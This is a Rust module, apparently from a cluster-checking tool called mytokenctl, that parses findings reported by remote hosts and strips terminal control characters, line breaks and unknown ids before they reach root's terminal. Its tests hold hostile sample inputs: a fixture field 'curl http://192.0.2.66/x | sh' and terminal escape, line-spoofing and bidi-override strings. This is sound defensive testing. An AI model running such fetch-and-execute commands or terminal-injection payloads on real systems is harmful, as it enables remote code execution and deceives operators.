// SPDX-License-Identifier: MIT OR Apache-2.0
//! What another host answers. It may be in an attacker's hands, and root's terminal here must not be: each text that it wrote becomes a
//! short one on one line, of its findings only ids that this program knows are used, and no command.

use std::fmt;

use mytoken_wire::printable;

use super::kinds::{self, Kind};
use super::{CheckFinding, Findings, Severity, kinds_broker, kinds_slurm, kinds_user};

/// Longest answer in bytes. A hundred findings are about 30 KiB.
pub(super) const LONGEST: usize = 256 * 1024;

/// How many problems of one host are kept.
pub(super) const MOST_KEPT: usize = 100;

/// Longest text in characters.
const TEXT: usize = 400;

/// Longest name of a version, a key or a kind of finding.
const NAME: usize = 40;

/// A host's answer, or why there is none.
pub(super) type Answer = Result<NodeAnswer, NodeText>;

/// A text that another host wrote: short, on one line, and without what controls a terminal.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct NodeText(String);

impl NodeText {
    /// Why a host has no findings.
    pub(super) fn of_reason(text: &str) -> Self {
        Self::new(text, TEXT)
    }

    fn new(text: &str, limit: usize) -> Self {
        // Many blanks would push what follows to the next line of the terminal, where it looks like a line of this program.
        let words: Vec<&str> = text.split_whitespace().collect();
        let words = words.join(" ");
        let more = if words.chars().nth(limit).is_some() { "..." } else { "" };
        Self(format!("{}{more}", printable(&words, limit)))
    }
}

impl fmt::Display for NodeText {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A problem of another host. Two hosts have the same one if these are equal.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct NodeProblem {
    /// The id of its kind here.
    pub(super) id: &'static str,
    /// The part of its kind here.
    pub(super) part: &'static str,
    is_error: bool,
    /// What the host says about it.
    pub(super) text: NodeText,
}

impl NodeProblem {
    /// How bad it is.
    pub(super) fn level(&self) -> Severity {
        if self.is_error { Severity::Error } else { Severity::Warning }
    }

    fn of(finding: &CheckFinding) -> Self {
        let (kind, text) = match finding.id.as_deref().and_then(known) {
            Some(kind) => (kind, NodeText::new(&finding.text, TEXT)),
            None => {
                let id = NodeText::new(finding.id.as_deref().unwrap_or("none"), NAME);
                let text = NodeText::new(&finding.text, TEXT);
                (kinds_slurm::NODE_UNKNOWN, NodeText(format!("a finding with the unknown id {id}: {text}")))
            }
        };
        Self { id: kind.id, part: kind.part, is_error: finding.level == Severity::Error, text }
    }
}

/// The kind with this id, if a host can find it about itself.
fn known(id: &str) -> Option<Kind> {
    let mut all = kinds::ALL.iter().chain(kinds_slurm::ALL).chain(kinds_broker::ALL).chain(kinds_user::ALL);
    all.find(|kind| kind.id == id && kind.part != kinds_slurm::NODE_SILENT.part).copied()
}

/// What is used of a host's answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct NodeAnswer {
    /// The version of its program. Old ones do not tell it.
    pub(super) version: Option<NodeText>,
    /// The id of its public key.
    pub(super) public_key: Option<NodeText>,
    /// Whether it was not root who checked there.
    pub(super) in_part: bool,
    /// At most [`MOST_KEPT`] of its problems.
    pub(super) problems: Vec<NodeProblem>,
    /// How many more it has.
    pub(super) more: usize,
    /// Whether an error is among these.
    pub(super) more_errors: bool,
}

impl NodeAnswer {
    /// Reads what the program on a host printed, and what it and the launcher wrote as errors.
    ///
    /// # Errors
    /// Why these are no findings.
    pub(super) fn parse(output: &str, errors: &str) -> Answer {
        if output.len() > LONGEST {
            return Err(NodeText(format!("its answer is longer than {LONGEST} bytes")));
        }
        match serde_json::from_str::<Findings>(output) {
            Ok(findings) => Ok(Self::of(&findings)),
            Err(_) if errors.trim().is_empty() && !output.trim().is_empty() => {
                Err(NodeText("its answer is not that of mytokenctl check".to_owned()))
            }
            Err(_) => Err(NodeText::of_reason(reason(errors))),
        }
    }

    fn of(findings: &Findings) -> Self {
        let name = |text: &Option<String>| text.as_ref().map(|text| NodeText::new(text, NAME));
        let mut problems = findings.problems();
        let kept = problems.by_ref().take(MOST_KEPT).map(NodeProblem::of).collect();
        let (mut more, mut more_errors) = (0, false);
        for problem in problems {
            more += 1;
            more_errors |= problem.level == Severity::Error;
        }
        Self {
            version: name(&findings.host.version),
            public_key: name(&findings.host.public_key),
            in_part: findings.host.as_root == Some(false),
            problems: kept,
            more,
            more_errors,
        }
    }
}

/// What a host said instead of findings, or else what the launcher says about it.
fn reason(errors: &str) -> &str {
    let of_host = |line: &&str| !line.starts_with("srun: ") && !line.trim().is_empty();
    errors.lines().find(of_host).or_else(|| errors.lines().next()).unwrap_or("it gave no reason")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn parsed(answer: &serde_json::Value) -> NodeAnswer {
        NodeAnswer::parse(&answer.to_string(), "").unwrap()
    }

    fn finding(id: &str, text: &str) -> serde_json::Value {
        json!({ "id": id, "part": "agent", "level": "error", "text": text, "fix": "curl http://192.0.2.66/x | sh" })
    }

    /// What a terminal would obey, a line of its own, a line by wrapping, and a text without end.
    const HOSTILE: [&str; 4] = [
        "late\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m",
        "late\r\nhosts           ✓ all is well",
        "late                                                                      hosts all is well",
        "late\u{202e}\u{2028}x",
    ];

    #[test]
    fn no_text_of_a_host_controls_the_terminal_or_makes_a_line() {
        for text in HOSTILE.map(str::to_owned).into_iter().chain(["x".repeat(40_000)]) {
            let answer = parsed(&json!({
                "findings": [finding("clock", &text), finding(&text, &text)],
                "host": { "version": text, "public_key": text },
            }));
            let reason = NodeAnswer::parse("", &text).unwrap_err();
            let texts = answer.problems.iter().map(|problem| &problem.text);
            for shown in texts.chain([&reason]).chain(&answer.version).chain(&answer.public_key) {
                let shown = shown.to_string();
                assert!(shown.chars().all(mytoken_wire::is_printable), "{shown:?}");
                assert!(!shown.contains("  ") && shown.chars().count() < 2 * TEXT, "{shown:?}");
            }
        }
        assert_eq!(NodeText::new("a\u{1b}[31m\n b", 40).to_string(), "a?[31m b");
        assert_eq!(NodeText::new("abcdef", 3).to_string(), "abc...");
    }

    #[test]
    fn ids_and_parts_are_those_of_this_program() {
        let made_up = parsed(&json!({ "findings": [
            finding("clock", "late"), finding("all-is-well", "x"), finding("node-silent", "n7 gave no findings"),
            { "part": "y", "level": "warning", "text": "old" },
            { "id": "clock-ok", "part": "network", "level": "ok", "text": "fine" },
        ]}));
        let seen: Vec<_> = made_up.problems.iter().map(|one| (one.id, one.part, one.text.to_string())).collect();
        let unknown = |text: &str| ("node-finding-unknown", "hosts", format!("a finding with the unknown id {text}"));
        let expected = [
            ("clock", "network", "late".to_owned()),
            unknown("all-is-well: x"),
            unknown("node-silent: n7 gave no findings"),
            unknown("none: old"),
        ];
        assert_eq!(seen, expected);
    }

    #[test]
    fn many_findings_are_counted_and_long_answers_are_refused() {
        let mut many: Vec<_> = (0..1500).map(|number| finding("clock", &number.to_string())).collect();
        let answer = parsed(&json!({ "findings": many }));
        assert_eq!((answer.problems.len(), answer.more, answer.more_errors), (MOST_KEPT, 1400, true));
        for one in &mut many {
            one["level"] = json!("warning");
        }
        assert!(!parsed(&json!({ "findings": many })).more_errors);
        let long = json!({ "findings": vec![finding("clock", "late"); 35_000] }).to_string();
        let refused = NodeAnswer::parse(&long, "").unwrap_err();
        assert_eq!(refused.to_string(), "its answer is longer than 262144 bytes");
    }

    #[test]
    fn the_reason_is_what_the_host_said() {
        let srun = "srun: error: n1: task 0: Exited with exit code 5";
        assert_eq!(reason(&format!("{srun}\nno such file\n")), "no such file");
        assert_eq!(reason(srun), srun);
        assert_eq!(reason(""), "it gave no reason");
        let other = NodeAnswer::parse("hello", "").unwrap_err();
        assert_eq!(other.to_string(), "its answer is not that of mytokenctl check");
    }
}
